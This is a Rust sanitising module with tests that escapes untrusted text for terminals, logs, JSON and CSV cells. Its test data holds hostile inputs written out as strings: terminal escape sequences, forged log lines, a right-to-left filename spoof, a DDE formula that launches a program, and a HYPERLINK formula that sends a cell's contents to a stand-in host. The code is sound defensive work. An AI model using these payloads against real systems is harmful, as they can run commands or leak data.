//! Text of others made harmless: for terminals, log lines and spreadsheets. Owns what counts as dangerous (SECURITY R58,
//! R59); must not lose anything: what is dangerous is shown, not dropped.

use std::borrow::Cow;

/// With what a spreadsheet begins a formula; the full-width forms are taken for the plain ones by some.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// One line that cannot drive a terminal, forge a second line, or reorder what stands beside it: control characters, line
/// separators, marks of direction and invisible characters are written out as `\u{…}`.
pub fn plain(text: &str) -> Cow<'_, str> {
    if !text.contains(dangerous) {
        return text.into();
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if dangerous(c) { shown.extend(c.escape_default()) } else { shown.push(c) }
    }
    shown.into()
}

/// The same inside JSON text, where the escape has to be JSON's own.
pub fn plain_json(text: &str) -> Cow<'_, str> {
    if !text.contains(dangerous) {
        return text.into();
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if dangerous(c) {
            for unit in c.encode_utf16(&mut [0; 2]) {
                shown.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            shown.push(c);
        }
    }
    shown.into()
}

/// A cell of a CSV file: one line, and text for every spreadsheet. One that starts like a formula gets an apostrophe in
/// front, behind whatever blanks it hides them.
pub fn cell(text: &str) -> Cow<'_, str> {
    let shown = plain(text);
    if shown.trim_start().starts_with(FORMULA) { format!("'{shown}").into() } else { shown }
}

fn dangerous(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// What hostile agents, users and files have been seen to put into names.
#[cfg(test)]
pub(crate) const CORPUS: [&str; 18] = [
    "a\x1b[2Jb",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\u{9b}31m",
    "\u{9d}52;c;ZXZpbA==\u{9c}",
    "ok\n2026-11-25T00:00:00Z  INFO forged",
    "ok\r\nforged",
    "over\rwritten",
    "back\x08\x08\x08\x08",
    "nul\0inside",
    "\x7f\x0b\x0c",
    "exe\u{202e}gpj.doc",
    "\u{2066}x\u{2069}\u{200f}\u{61c}",
    "line\u{2028}para\u{2029}",
    "in\u{200b}visible\u{feff}\u{2060}\u{ad}",
    "\u{e0041}\u{e007f}tags",
    "tab\tbed",
    "\u{85}next line",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn foreign_text_is_one_harmless_line() {
        for text in CORPUS {
            let shown = plain(text);
            assert!(!shown.contains(dangerous), "{shown:?}");
            assert_ne!(shown, text, "{text:?}");
            let json = serde_json::to_string(text).unwrap();
            let json = plain_json(&json);
            assert!(!json.contains(dangerous), "{json:?}");
            assert_eq!(serde_json::from_str::<String>(&json).unwrap(), text);
        }
        for innocent in ["home-1", "Ünïcödé 名前 👩‍💻", "a = b", ""] {
            assert!(matches!(plain(innocent), Cow::Borrowed(same) if same == innocent));
        }
    }

    #[test]
    fn cells_are_text_for_every_spreadsheet() {
        let formulas = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?x=\"&A1,\"ok\")",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            " =1+1",
            "\u{a0}=1+1",
            "\u{3000}@x",
            "＝1+1",
            "＋1",
            "－1",
            "＠x",
        ];
        for text in formulas {
            assert_eq!(cell(text), format!("'{text}"));
        }
        // What hid behind a control character is shown behind its escape, and is none any more.
        for text in ["\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\u{feff}=1+1"] {
            assert!(cell(text).starts_with('\\'), "{}", cell(text));
        }
        for innocent in ["home-1", "a=b", "1-1", "'quoted", ""] {
            assert_eq!(cell(innocent), innocent);
        }
    }
}
